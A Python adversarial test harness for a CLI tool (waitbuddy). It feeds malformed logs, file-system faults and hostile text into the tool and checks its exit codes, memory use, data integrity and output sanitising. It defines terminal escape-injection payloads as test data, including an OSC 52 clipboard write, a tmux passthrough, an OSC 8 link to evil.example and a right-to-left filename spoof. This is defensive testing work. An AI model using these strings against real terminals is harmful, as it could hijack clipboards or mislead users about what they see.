"""Adversarial harness for issue 10: hostile inputs and faults against the real CLI, tried / held.

    .venv/bin/python bench/adversarial.py [--only CATEGORY[,CATEGORY]] [--verbose] [--jobs N] [--case TEXT]

Every case runs `python -m waitbuddy ...` in subprocesses with a sandbox of its own: HOME,
XDG_CONFIG_HOME, XDG_DATA_HOME, WAITBUDDY_CONFIG and WAITBUDDY_DATA_DIR all point into a fresh
temporary directory, the alert and tmux variables of this shell are removed, and every child runs in
a new session (no controlling terminal: nothing reaches the terminal running the harness). The
only network used is servers of the harness on 127.0.0.1. Faults that need more than a file are
made without touching the machine: a read-only or full file system is a bind mount or a 1 MB tmpfs
inside a private mount namespace (`unshare -m`, gone when the child exits; the cases are skipped
where that is not allowed), an unreadable file is read by uid 65534 (`setpriv`).

A case HELD when every one of its checks passed: the process ended within its time bound (20 s
unless the case says), no Python traceback on stderr, the documented exit status, one-line errors
where the README promises them, no escape or control characters other than SGR in the output of
hostile text, no data lost (`PRAGMA integrity_check` ok and the rows there before still there),
peak memory (ru_maxrss of the child) within its bound where relevant.

Categories: log, text, config, storage, import, alerts, launcher.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import gzip
import io
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zipfile
import zlib
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
VENV_PYTHON = ROOT / ".venv" / "bin" / "python"
PYTHON = str(VENV_PYTHON if VENV_PYTHON.exists() else Path(sys.executable))
CATEGORIES = ("log", "text", "config", "storage", "import", "alerts", "launcher")
TITLES = {"log": "log input", "text": "hostile text", "config": "config", "storage": "storage",
          "import": "import files", "alerts": "alert channels", "launcher": "launcher"}
DEFAULT_TIMEOUT = 20.0
DEFAULT_MEMORY_MB = 400
PUSH_TIMEOUT = 5.0  # waitbuddy/alerts/setup.py: not configurable; a push channel's budget is 2x this
START_SLACK = 2.0  # interpreter start and imports, on a busy 2-core machine
MB = 1024 * 1024
NOBODY = 65534
ADDRESS_SPACE = 3 * 1024 * MB
TIME = "/usr/bin/time" if os.access("/usr/bin/time", os.X_OK) else None
TRACEBACK = b"Traceback (most recent call last)"
SGR = re.compile(r"\x1b\[[0-9;:]*m")
BAD_CHARS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\udc80-\udcff]")
BAD_CHARS_JSON = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\udc80-\udcff]")  # JSON keeps bidi marks as data

# Hostile strings: what anyone able to name a file in a shared runs/, or to title a web page, chooses.
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x1b\\"  # "echo pwned" to the clipboard
OSC2 = "\x1b]2;PWNED\x07"  # the window / pane title
CSI = "\x1b[2J\x1b[H"  # clear the screen
C1CSI = "\x9b2J"  # the 8-bit CSI
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
DCS_TMUX = "\x1bPtmux;\x1b\x1b]52;c;cHduZWQ=\x07\x1b\\"  # tmux passthrough
RTL = "invoice\u202egpj.exe"
FAKE_LINE = "ok\n\u2714 other  completed  100%"
BACKSPACE = "safe\b\b\b\bEVIL\rREWRITE"
HOSTILE = {"osc52": OSC52, "osc2": OSC2, "csi": CSI, "c1csi": C1CSI, "osc8": OSC8, "tmux-passthrough": DCS_TMUX,
           "rtl": RTL, "newline": FAKE_LINE, "backspace-cr": BACKSPACE}


# ------------------------------------------------------------------------------------------------
# Running the CLI


@dataclass
class Result:
    argv: list[str]
    rc: int | None
    out: bytes
    err: bytes
    seconds: float
    timed_out: bool
    maxrss_mb: float

    def text(self) -> str:
        return self.out.decode("utf-8", "surrogateescape")

    def summary(self) -> str:
        err = self.err.decode("utf-8", "backslashreplace").strip().splitlines()
        shown = " | ".join(line[:200] for line in err[-4:]) if err else "(no stderr)"
        state = "TIMED OUT" if self.timed_out else f"exit {self.rc}"
        return f"{state}, {self.seconds:.1f} s, {self.maxrss_mb:.0f} MB; stderr: {shown!r}"


def _drain(stream, sink: list[bytes], cap: int) -> None:
    size = 0
    while True:
        chunk = stream.read(65536)
        if not chunk:
            break
        if size < cap:
            sink.append(chunk[: cap - size])
        size += len(chunk)
    stream.close()


def spawn(argv: list, *, env: dict, cwd: str | None = None, timeout: float = DEFAULT_TIMEOUT,
          input: bytes | None = None, on_start: Callable[[subprocess.Popen], None] | None = None,
          capture_cap: int = 64 * MB) -> Result:
    """Run argv in a new session; kill its whole group at the deadline; peak RSS from wait4."""
    started = time.monotonic()
    process = subprocess.Popen(argv, env=env, cwd=cwd, stdin=subprocess.PIPE if input is not None else subprocess.DEVNULL,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    out: list[bytes] = []
    err: list[bytes] = []
    readers = [threading.Thread(target=_drain, args=(process.stdout, out, capture_cap), daemon=True),
               threading.Thread(target=_drain, args=(process.stderr, err, capture_cap), daemon=True)]
    for reader in readers:
        reader.start()
    if input is not None:
        def feed() -> None:
            with contextlib.suppress(OSError):
                process.stdin.write(input)
                process.stdin.close()
        threading.Thread(target=feed, daemon=True).start()
    if on_start is not None:
        on_start(process)
    deadline = started + timeout
    timed_out = False
    status = rusage = None
    while True:
        pid, status, rusage = os.wait4(process.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() > deadline:
            timed_out = True
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            _, status, rusage = os.wait4(process.pid, 0)
            break
        time.sleep(0.01)
    seconds = time.monotonic() - started
    process.returncode = os.waitstatus_to_exitcode(status)
    with contextlib.suppress(ProcessLookupError):  # grandchildren left in the group (a run's job)
        os.killpg(process.pid, signal.SIGKILL)
    for reader in readers:
        reader.join(5)
    return Result([os.fsdecode(a) for a in argv], None if timed_out else process.returncode, b"".join(out),
                  b"".join(err), seconds, timed_out, rusage.ru_maxrss / 1024)


def cap_address_space() -> None:
    """This harness and so every child gets at most ADDRESS_SPACE of virtual memory: a case that
    reads without end (a config of /dev/zero grows by ~1 GB a second) fails there instead of
    taking the machine."""
    import resource

    _soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    if hard == resource.RLIM_INFINITY or hard > ADDRESS_SPACE:
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, hard))


class Broke(Exception):
    """A case found that something did not hold (the message says what)."""


class Skip(Exception):
    """The case cannot be tried here (says why); it is neither tried nor held."""


class Sandbox:
    """A temporary HOME, config and data dir of a case's own, and the checks it makes."""

    def __init__(self, base: Path, name: str) -> None:
        self.dir = Path(tempfile.mkdtemp(prefix=re.sub(r"[^A-Za-z0-9]+", "-", name)[:40] + "-", dir=base))
        self.dir.chmod(0o755)
        self.home = self.dir / "home"
        self.data = self.dir / "data"
        self.config = self.dir / "config.toml"
        self.work = self.dir / "work"
        for path in (self.home, self.work):
            path.mkdir()
        self.config.write_text('[backlog]\nfetch = "off"\n')
        self.env = {key: value for key, value in os.environ.items() if not _drop_env(key)}
        self.env.update({
            "HOME": str(self.home), "XDG_CONFIG_HOME": str(self.home / ".config"),
            "XDG_DATA_HOME": str(self.home / ".local" / "share"), "XDG_CACHE_HOME": str(self.home / ".cache"),
            "WAITBUDDY_CONFIG": str(self.config), "WAITBUDDY_DATA_DIR": str(self.data),
            "NO_PROXY": "*", "no_proxy": "*", "LC_ALL": "C.UTF-8", "PYTHONDONTWRITEBYTECODE": "1",
            "TERM": "xterm-256color",
        })
        self.problems: list[str] = []
        self.last: Result | None = None
        self.repro: list[str] = []
        self.first_bad: tuple[Result | None, str] = (None, "")

    @property
    def db(self) -> Path:
        return self.data / "waitbuddy.db"

    def path(self, *parts: str | bytes) -> Path:
        return Path(os.fsdecode(os.path.join(os.fsencode(self.work), *(os.fsencode(p) for p in parts))))

    def write(self, name: str | bytes, content: bytes | str) -> Path:
        path = self.path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content)
        return path

    # --- running ---------------------------------------------------------------------------------

    def cli(self, *args: str | bytes | Path, timeout: float = DEFAULT_TIMEOUT, env: dict | None = None,
            input: bytes | None = None, as_nobody: bool = False, prefix: Iterable[str] = (),
            cwd: str | Path | None = None, on_start=None, check_traceback: bool = True,
            max_mb: float | None = DEFAULT_MEMORY_MB, measure: bool = True) -> Result:
        argv: list = [*prefix, PYTHON, "-m", "waitbuddy", *(os.fspath(a) if isinstance(a, Path) else a for a in args)]
        if as_nobody:
            self.give_to_nobody()
            argv = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *argv]
        full_env = {**self.env, **(env or {})}
        # Peak memory from GNU time, whose child is forked from a small process: a child forked
        # from this harness inherits its high-water mark in ru_maxrss (it holds big test files).
        memory_file = None
        if measure and TIME and max_mb is not None:
            memory_file = str(self.dir / f"rss-{len(self.repro)}")
            argv = [TIME, "-f", "%M", "-o", memory_file, *argv]
        result = spawn(argv, env=full_env, cwd=str(cwd or self.work), timeout=timeout, input=input, on_start=on_start)
        if memory_file is not None:
            try:
                result.maxrss_mb = int(Path(memory_file).read_text().split()[-1]) / 1024
            except (OSError, ValueError, IndexError):
                result.maxrss_mb = 0.0  # killed at the deadline: time wrote nothing
            argv = argv[5:]
        self.last = result
        self.repro.append(_repro(argv, env or {}))
        if result.timed_out:
            self.fail(f"did not end within {timeout:g} s")
        if check_traceback and TRACEBACK in result.err:
            self.fail("a Python traceback on stderr")
        if max_mb is not None and result.maxrss_mb > max_mb:
            self.fail(f"peak memory {result.maxrss_mb:.0f} MB > {max_mb:.0f} MB")
        return result

    def give_to_nobody(self) -> None:
        for folder, dirs, files in os.walk(self.dir):
            for name in [folder, *(os.path.join(folder, n) for n in dirs + files)]:
                with contextlib.suppress(OSError):
                    os.lchown(name, NOBODY, NOBODY)

    # --- checks ----------------------------------------------------------------------------------

    def fail(self, message: str) -> None:
        if not self.problems:  # the command that first went wrong is the one to report
            self.first_bad = (self.last, self.repro[-1] if self.repro else "")
        self.problems.append(message)

    def expect(self, result: Result, rc: int | Iterable[int], *, one_line: bool = False, quiet_out: bool = False,
               within: float | None = None, err_has: str | None = None) -> None:
        wanted = {rc} if isinstance(rc, int) else set(rc)
        if not result.timed_out and result.rc not in wanted:
            self.fail(f"exit {result.rc}, expected {' or '.join(map(str, sorted(wanted)))}")
        if one_line:
            lines = result.err.decode("utf-8", "replace").strip().splitlines()
            if len(lines) != 1:
                self.fail(f"stderr is {len(lines)} lines, expected one")
        if quiet_out and result.out:
            self.fail(f"stdout not empty: {result.out[:80]!r}")
        if within is not None and result.seconds > within:
            self.fail(f"took {result.seconds:.1f} s, bound {within:g} s")
        if err_has is not None and err_has not in result.err.decode("utf-8", "replace"):
            self.fail(f"stderr lacks {err_has!r}")

    def clean(self, data: bytes, where: str, *, json_output: bool = False) -> None:
        """Only SGR escapes, no control characters (but newline and tab), no bidi overrides."""
        text = SGR.sub("", data.decode("utf-8", "surrogateescape"))
        found = (BAD_CHARS_JSON if json_output else BAD_CHARS).findall(text)
        if found:
            self.fail(f"{where}: raw control characters reached the output: {sorted(set(found))!r}")

    def intact(self, urls: Iterable[str] = (), runs: int | None = None) -> None:
        """PRAGMA integrity_check ok, and the rows written before the fault still there."""
        if not self.db.exists():
            self.fail("the database is gone")
            return
        try:
            with contextlib.closing(sqlite3.connect(f"file:{self.db}?mode=ro", uri=True, timeout=30)) as db:
                check = db.execute("PRAGMA integrity_check").fetchone()[0]
                if check != "ok":
                    self.fail(f"integrity_check: {check}")
                have = {row[0] for row in db.execute("SELECT url FROM items")}
                missing = [url for url in urls if url not in have]
                if missing:
                    self.fail(f"{len(missing)} earlier rows lost, e.g. {missing[0]}")
                if runs is not None:
                    count = db.execute("SELECT count(*) FROM runs").fetchone()[0]
                    if count < runs:
                        self.fail(f"{count} runs left of {runs}")
        except sqlite3.Error as exc:
            self.fail(f"the database cannot be read: {exc}")

    def seed(self, count: int = 20) -> list[str]:
        """A database holding `count` backlog items and one run, copied from a template."""
        self.data.mkdir(exist_ok=True)
        shutil.copy(TEMPLATE.path(count), self.db)
        return TEMPLATE.urls(count)


def _drop_env(key: str) -> bool:
    return (key.startswith(("WAITBUDDY_", "TMUX", "XDG_", "KITTY_", "WT_", "ITERM", "TERM_PROGRAM", "WEZTERM",
                            "DBUS_", "SSH_"))
            or key.lower() in ("http_proxy", "https_proxy", "all_proxy", "ftp_proxy", "display", "wayland_display"))


def _repro(argv: list, env: dict) -> str:
    import shlex

    shown = [shlex.quote(os.fsdecode(a)) if not isinstance(a, bytes) else repr(a) for a in argv]
    if shown and shown[0] == shlex.quote(PYTHON):
        shown[0] = ".venv/bin/python"
    prefix = " ".join(f"{k}={shlex.quote(_shorten(str(v)))}" for k, v in env.items())
    return (prefix + " " if prefix else "") + " ".join(_shorten(a) for a in shown)


def _shorten(text: str, limit: int = 300) -> str:
    return text if len(text) <= limit else f"{text[:limit // 2]}...({len(text)} chars)...{text[-40:]}"


class Template:
    """Seed databases made once with the real CLI (`add --no-fetch`), copied into each case."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.made: dict[int, Path] = {}
        self.lock = threading.Lock()

    def urls(self, count: int) -> list[str]:
        return [f"https://seed.example.org/{n}" for n in range(count)]

    def path(self, count: int) -> Path:
        with self.lock:
            if count not in self.made:
                box = Sandbox(self.base, f"template-{count}")
                for start in range(0, count, 200):
                    result = box.cli("add", "--no-fetch", *self.urls(count)[start:start + 200], timeout=60)
                    if result.rc != 0:
                        raise RuntimeError(f"cannot make the seed database: {result.summary()}")
                log = box.write("seed.log", "step 10/10 loss=0.1\n")
                box.cli("run", "--name", "seed", "--log", str(box.path("seed-run.log")), "--", "true")
                box.cli("watch", "--json", "--until-done", "--remember", "--pid", "1999999", str(log))
                self.made[count] = box.db
            return self.made[count]


TEMPLATE: Template  # set in main()


# ------------------------------------------------------------------------------------------------
# Cases


@dataclass
class Case:
    category: str
    name: str
    run: Callable[[Sandbox], None]
    slow: bool = False  # mostly waiting (locks, timeouts): started first
    heavy: bool = False  # CPU or memory hungry: run alone


CASES: list[Case] = []


def case(category: str, name: str, *, slow: bool = False, heavy: bool = False):
    def register(function: Callable[[Sandbox], None]) -> Callable[[Sandbox], None]:
        CASES.append(Case(category, name, function, slow, heavy))
        return function
    return register


def add_case(category: str, name: str, function: Callable[[Sandbox], None], **kwargs) -> None:
    case(category, name, **kwargs)(function)


def dead_pid() -> int:
    process = subprocess.Popen(["true"])
    process.wait()
    return process.pid


# --- log input -----------------------------------------------------------------------------------

PROGRESS = "step 3/10 loss=0.5\n"
FAILED = "step 3/10 loss=0.5\nTraceback (most recent call last):\n  File \"t.py\", line 1\nRuntimeError: boom\n"


def log_file_case(name: str, make: Callable[[Sandbox], Path], *, status_rc=(0,), watch_rc=(0, 1),
                  max_mb: float = 300, within: float = 10.0, heavy: bool = False) -> None:
    """The log made by `make`, read by `status`, `status --json` and `watch --json --until-done`."""

    def run(box: Sandbox) -> None:
        path = make(box)
        for args in (["status", path], ["status", "--json", path]):
            result = box.cli(*args, max_mb=max_mb)
            box.expect(result, status_rc, within=within)
            box.clean(result.out, " ".join(map(os.fsdecode, args[:-1])), json_output="--json" in args)
            if result.rc == 2:
                box.expect(result, 2, one_line=True)
        pid = ["--pid", str(dead_pid())] if os.path.isfile(path) else []  # --pid ends one PATH only
        result = box.cli("watch", "--json", "--until-done", *pid, path, max_mb=max_mb)
        box.expect(result, watch_rc, within=within)
        for line in result.out.splitlines():
            try:
                json.loads(line)
            except ValueError:
                box.fail(f"watch --json printed a line that is not JSON: {line[:80]!r}")
                break

    add_case("log", name, run, heavy=heavy)


def _random_bytes(box: Sandbox) -> Path:
    return box.write("binary.log", os.urandom(2 * MB))


def _elf(box: Sandbox) -> Path:
    path = box.path("program.log")
    shutil.copy(os.path.realpath(PYTHON), path)
    return path


def _long_line(size: int, newline: bool = False) -> Callable[[Sandbox], Path]:
    def make(box: Sandbox) -> Path:
        return box.write("long.log", "step 1/10 loss=0.9 " + "x" * size + ("\n" if newline else ""))
    return make


def _nuls(box: Sandbox) -> Path:
    return box.write("nul.log", b"step 1/10 loss=0.9\n\x00\x00\x00step 2/10\x00 loss=0.8\n" + b"\x00" * MB + b"step 3/10 loss=0.7\n")


def _sparse(size: int) -> Callable[[Sandbox], Path]:
    def make(box: Sandbox) -> Path:
        path = box.path("sparse.log")
        with open(path, "wb") as out:
            out.write(b"step 1/10 loss=0.9\n")
            out.truncate(size)
            out.seek(size)
            out.write(b"\nstep 9/10 loss=0.1\n")
        return path
    return make


def _bad_utf8(box: Sandbox) -> Path:
    return box.write("bad.log", b"step 1/10 loss=0.9\n\xff\xfe\xc3\x28 \xe2\x82 step 2/10 loss=0.8 \xf0\x9f\n"
                     + bytes(range(256)) * 100 + b"\nepoch 2/5 loss=\xff0.4\n")


def _utf16(bom: bool) -> Callable[[Sandbox], Path]:
    def make(box: Sandbox) -> Path:
        text = "".join(f"epoch {n}/10 loss={1 / n:.3f}\n" for n in range(1, 6))
        return box.write("utf16.log", (text.encode("utf-16") if bom else text.encode("utf-16-le")))
    return make


def _special(device: str) -> Callable[[Sandbox], Path]:
    def make(box: Sandbox) -> Path:
        link = box.path(f"{Path(device).name}.log")
        link.symlink_to(device)
        return link
    return make


def _fifo(box: Sandbox) -> Path:
    path = box.path("fifo.log")
    os.mkfifo(path)
    return path


def _socket(box: Sandbox) -> Path:
    path = box.path("s.log")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    box.keep = server  # type: ignore[attr-defined]
    return path


def _symlink_loop(box: Sandbox) -> Path:
    folder = box.path("runs")
    folder.mkdir()
    (folder / "a.log").symlink_to(folder / "b.log")
    (folder / "b.log").symlink_to(folder / "a.log")
    (folder / "self.log").symlink_to(folder / "self.log")
    (folder / "dangling.log").symlink_to(folder / "nowhere")
    (folder / "ok.log").write_text(FAILED)  # ends by itself: watch --until-done can end
    return folder


def _self_links(count: int) -> Callable[[Sandbox], Path]:
    def make(box: Sandbox) -> Path:
        folder = box.path("runs")
        (folder / "exp" / "deep").mkdir(parents=True)
        (folder / "exp" / "deep" / "train.log").write_text(FAILED)
        for n in range(count):
            (folder / f"self{n}").symlink_to(".")
            (folder / "exp" / f"up{n}").symlink_to("..")
        return Path(str(folder / "**" / "*.log"))
    return make


def _deep_dirs(box: Sandbox) -> Path:
    folder = box.path("deep")
    nested = folder
    for _ in range(150):
        nested = nested / "d"
    nested.mkdir(parents=True)
    (nested / "train.log").write_text(FAILED)
    return Path(str(folder / "**" / "*.log"))


def _many_files(box: Sandbox) -> Path:
    folder = box.path("many")
    folder.mkdir()
    for n in range(3000):
        (folder / f"run{n}.log").write_text(f"step {n % 10}/10 loss=0.5\n" + FAILED)
    return folder


def _glob_chars(box: Sandbox) -> Path:
    return box.write("x[1]*?.log", PROGRESS)


def _dir_no_logs(box: Sandbox) -> Path:
    folder = box.path("empty")
    folder.mkdir()
    (folder / "notes.md").write_text("x")
    return folder


def _enotdir(box: Sandbox) -> Path:
    box.write("file.log", PROGRESS)
    return box.path("file.log", "inner.log")


def _long_path(box: Sandbox) -> Path:
    return Path(str(box.work / ("a" * 300) / ("b" * 5000 + ".log")))


def _text(name: str, content: str | bytes) -> Callable[[Sandbox], Path]:
    return lambda box: box.write(name, content)


log_file_case("binary file (2 MB random)", _random_bytes)
log_file_case("a program (ELF) as a log", _elf)
log_file_case("/dev/zero as a log (symlink)", _special("/dev/zero"), status_rc=(2,), watch_rc=(2,))
log_file_case("/dev/urandom as a log (symlink)", _special("/dev/urandom"), status_rc=(2,), watch_rc=(2,))
log_file_case("/dev/null as a log (symlink)", _special("/dev/null"), status_rc=(2,), watch_rc=(2,))
log_file_case("FIFO as a log", _fifo, status_rc=(2,), watch_rc=(2,))
log_file_case("unix socket as a log", _socket, status_rc=(2,), watch_rc=(2,))
log_file_case("directory without logs", _dir_no_logs, status_rc=(1,), watch_rc=(1,))
log_file_case("1 MB line without a newline", _long_line(MB))
log_file_case("64 MB line without a newline", _long_line(64 * MB), max_mb=300, heavy=True)
log_file_case("NUL bytes between progress lines", _nuls)
log_file_case("sparse 4 GB log of NULs", _sparse(4 * 1024 * MB), heavy=True)
log_file_case("invalid UTF-8 and every byte value", _bad_utf8)
log_file_case("UTF-16 with BOM", _utf16(True))
log_file_case("UTF-16-LE without BOM", _utf16(False))
log_file_case("symlink loop, self link and dangling link in a watched dir", _symlink_loop)
log_file_case("** glob through one self link and one parent link", _self_links(1))
log_file_case("** glob through three self links and three parent links", _self_links(3))
log_file_case("** glob over 150 nested directories", _deep_dirs)
log_file_case("directory of 3,000 logs", _many_files, within=15.0, heavy=True)
log_file_case("existing name with [ ] * ?", _glob_chars)
log_file_case("a file used as a directory (ENOTDIR)", _enotdir, status_rc=(1,), watch_rc=(1,))
log_file_case("path longer than PATH_MAX", _long_path, status_rc=(1, 2), watch_rc=(1, 2))
log_file_case("progress with zero, negative and absurd totals", _text("zero.log", (
    "epoch 1/0 loss=0.5\nstep 5/0\nstep -3/-7 loss=-0\nstep 999999999999999999999999999999/1 loss=1e999\n"
    "  3%|#    | 3/99999999999999999999999 [00:01<9999999999:59:59, 1e-300it/s]\n"
    "100%|##########| 18446744073709551617/18446744073709551616 [00:00<00:00, inf it/s]\n")))
log_file_case("NaN and infinite metrics", _text("nan.log", "step 1/10 loss=nan\nstep 2/10 loss=inf grad_norm=-inf\n"
                                                 "{\"loss\": NaN, \"step\": 3}\n{\"loss\": Infinity}\n"))
log_file_case("JSON lines nested 100,000 deep", _text("deep.jsonl", "[" * 100_000 + "]" * 100_000 + "\n"
                                                     + '{"loss": 0.5, "step": 1}\n'))
log_file_case("JSON lines with a 10,000-digit number", _text("digits.jsonl",
                                                             '{"loss": ' + "9" * 10_000 + ', "step": 2}\n'))
log_file_case("JSON line of 60 KB of keys", _text("wide.jsonl", json.dumps({f"m{n}": n for n in range(5000)}) + "\n"))
log_file_case("Hugging Face dict nested 50,000 deep", _text("hf.log", "{'loss': " + "{'a': " * 50_000 + "1"
                                                           + "}" * 50_000 + ", 'epoch': 1.0}\n"))
log_file_case("100,000 tqdm frames of one bar on one line", _text("bar.log", "".join(
    f"\r{n // 1000:3d}%|#   | {n}/100000 [00:01<00:10, 99.0it/s, loss={1 / (n + 1):.4f}]" for n in range(100_000))))
log_file_case("ANSI cursor movement storm", _text("cursor.log", "\x1b[999A\x1b[999999C\x1b[2J" * 20_000
                                                   + "\x1b[99999;99999H step 4/10 loss=0.4\n" + "\x1b[1000000B\n"))
log_file_case("traceback of 100,000 frames", _text("tb.log", "step 1/10\nTraceback (most recent call last):\n"
                                                   + "  File \"x.py\", line 1, in f\n    f()\n" * 100_000
                                                   + "RecursionError: " + "deep " * 50_000 + "\n"))


@case("log", "file truncated, rewritten, then rotated under watch --json")
def _rotated(box: Sandbox) -> None:
    log = box.write("rot.log", "step 1/10 loss=0.9\n")

    def mutate(process: subprocess.Popen) -> None:
        def go() -> None:
            steps = [lambda: log.write_text("step 2/10 loss=0.8\n" * 50),
                     lambda: os.truncate(log, 0),
                     lambda: log.write_text("step 1/10 loss=0.95\n"),
                     lambda: log.rename(box.path("rot.log.1")),
                     lambda: log.write_text("step 5/10 loss=0.5\n"),
                     lambda: log.write_text(FAILED)]
            for step in steps:
                time.sleep(0.6)
                with contextlib.suppress(OSError):
                    step()
        threading.Thread(target=go, daemon=True).start()

    result = box.cli("watch", "--json", "--until-done", "--interval", "0", log, on_start=mutate)
    box.expect(result, 1)
    statuses = [json.loads(line)["status"] for line in result.out.splitlines() if line.strip()]
    if not statuses or statuses[-1] != "failed":
        box.fail(f"the rotated log's failure was not seen: {statuses[-3:]}")


@case("log", "file deleted while watched, then recreated")
def _deleted(box: Sandbox) -> None:
    log = box.write("gone.log", "step 1/10 loss=0.9\n")

    def mutate(process: subprocess.Popen) -> None:
        def go() -> None:
            with contextlib.suppress(OSError):  # the case may be over
                time.sleep(0.8)
                log.unlink()
                time.sleep(0.8)
                log.write_text(FAILED)
        threading.Thread(target=go, daemon=True).start()

    result = box.cli("watch", "--json", "--until-done", log, on_start=mutate)
    box.expect(result, 1)


@case("log", "a log that grows 50 MB while status reads it", heavy=True)
def _growing(box: Sandbox) -> None:
    log = box.write("grow.log", "step 1/1000 loss=0.9\n")
    stop = threading.Event()

    def grow() -> None:
        with open(log, "a") as out:
            n = 0
            while not stop.is_set() and n < 500_000:
                out.write(f"step {n % 1000}/1000 loss={1 / (n + 1):.6f}\n" * 20)
                n += 20
    writer = threading.Thread(target=grow, daemon=True)
    writer.start()
    try:
        for _ in range(3):
            box.expect(box.cli("status", "--json", log, max_mb=200), 0)
    finally:
        stop.set()
        writer.join()


def _unreadable_file(box: Sandbox) -> None:
    box.write("secret.log", PROGRESS).chmod(0)
    box.write("ok.log", PROGRESS)
    result = box.cli("status", box.path("secret.log"), as_nobody=True)
    box.expect(result, (0, 1, 2))
    if b"permission denied" not in (result.out + result.err).lower():
        box.fail("the unreadable log is not said to be unreadable")
    result = box.cli("status", "--json", box.work, as_nobody=True)
    box.expect(result, (0, 1))
    if b"ok.log" not in result.out:
        box.fail("the readable log beside an unreadable one was not shown")


def _unreadable_dir(box: Sandbox) -> None:
    locked = box.path("locked")
    locked.mkdir()
    (locked / "train.log").write_text(PROGRESS)
    box.write("ok/train.log", PROGRESS)
    box.give_to_nobody()
    locked.chmod(0)
    result = box.cli("status", "--json", locked, box.path("ok"), as_nobody=True)
    box.expect(result, (0, 1))
    if b"ok/train.log" not in result.out:
        box.fail("the readable directory's log was not shown")
    (box.path("ok") / "train.log").write_text(FAILED)
    result = box.cli("watch", "--json", "--until-done", str(box.work / "*" / "*.log"), as_nobody=True)
    box.expect(result, (0, 1))


add_case("log", "unreadable log file (uid 65534)", _unreadable_file)
add_case("log", "unreadable watched directory (uid 65534)", _unreadable_dir)


# --- hostile text ------------------------------------------------------------------------------------


def _status_outputs(box: Sandbox, *paths: Path | str, lines: int | None = None) -> None:
    plain = box.cli("status", *paths)
    box.expect(plain, (0, 1))
    box.clean(plain.out, "status")
    box.clean(plain.err, "status stderr")
    if lines is not None and len(plain.out.splitlines()) != lines:
        box.fail(f"status printed {len(plain.out.splitlines())} lines for {lines} runs")
    as_json = box.cli("status", "--json", *paths)
    box.clean(as_json.out, "status --json", json_output=True)


def _hostile_file_name(label: str, payload: str) -> None:
    def run(box: Sandbox) -> None:
        log = box.write(f"exp{payload}.log", "step 2/10 loss=0.4\n")
        _status_outputs(box, log, lines=1)
        remembered = box.cli("watch", "--json", "--until-done", "--remember", "--pid", str(dead_pid()), log)
        box.clean(remembered.out, "watch --json", json_output=True)
        listed = box.cli("runs")
        box.expect(listed, 0)
        box.clean(listed.out, "runs")
        if len(listed.out.splitlines()) != 1:
            box.fail(f"runs printed {len(listed.out.splitlines())} lines for one run")
        box.clean(box.cli("runs", "--json").out, "runs --json", json_output=True)
        missing = box.cli("status", box.path(f"missing{payload}.log"))
        box.expect(missing, 1, one_line=True)
        box.clean(missing.err, "status error for a missing file")
    add_case("text", f"file name: {label}", run)


def _hostile_dir_name(label: str, payload: str) -> None:
    def run(box: Sandbox) -> None:
        box.write(f"runs/exp{payload}1/train.log", "step 2/10 loss=0.4\n")
        box.write("runs/plain/train.log", "step 3/10 loss=0.3\n")
        _status_outputs(box, str(box.path("runs")) + "/*/train.log", lines=2)
    add_case("text", f"directory name in a glob: {label}", run)


def _hostile_log_line(label: str, payload: str) -> None:
    def run(box: Sandbox) -> None:
        log = box.write("train.log", f"step 2/10 loss=0.4 {payload}\n{payload}\nTraceback (most recent call last):\n"
                                     f"  File \"t.py\", line 1\nRuntimeError: {payload} bad {payload}\n")
        jl = box.write("metrics.jsonl", json.dumps({"loss": 0.5, f"m{payload}": 1.0, "step": 1, "note": payload}) + "\n")
        _status_outputs(box, log, jl, lines=2)
        box.cli("watch", "--json", "--until-done", "--remember", "--pid", str(dead_pid()), log, jl)
        listed = box.cli("runs")
        box.clean(listed.out, "runs")
    add_case("text", f"log line and error message: {label}", run)


def _hostile_run_name(label: str, payload: str) -> None:
    def run(box: Sandbox) -> None:
        result = box.cli("run", "--name", payload, "--log", box.path("r.log"), "--", "true")
        box.expect(result, 0)
        box.clean(result.err, "run stderr")
        listed = box.cli("runs")
        box.clean(listed.out, "runs")
        if len(listed.out.splitlines()) != 1:
            box.fail(f"runs printed {len(listed.out.splitlines())} lines for one run")
        box.clean(box.cli("status").out, "status of the stored runs")
    add_case("text", f"run name (run --name): {label}", run)


def _hostile_bookmark(label: str, payload: str) -> None:
    def run(box: Sandbox) -> None:
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;")
        html = ("<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n"
                f"<DT><H3>folder{escaped}</H3>\n<DL><p>\n"
                f'<DT><A HREF="https://example.org/a" TAGS="t{escaped}">title{escaped}</A>\n<DD>desc{escaped}\n'
                "</DL><p>\n</DL><p>\n")
        imported = box.cli("import", box.write("b.html", html))
        box.expect(imported, 0)
        box.clean(imported.out, "import report")
        added = box.cli("add", "--no-fetch", "-t", f"tag{payload}", "-n", f"note{payload}", "https://example.org/b")
        box.clean(added.out + added.err, "add")
        listed = box.cli("backlog")
        box.expect(listed, 0)
        box.clean(listed.out, "backlog")
        if len(listed.out.splitlines()) != 2:
            box.fail(f"backlog printed {len(listed.out.splitlines())} lines for 2 items")
        box.clean(box.cli("backlog", "--json").out, "backlog --json", json_output=True)
        for kind in ("csv", "json", "html"):
            exported = box.cli("export", "-", "--format", kind)
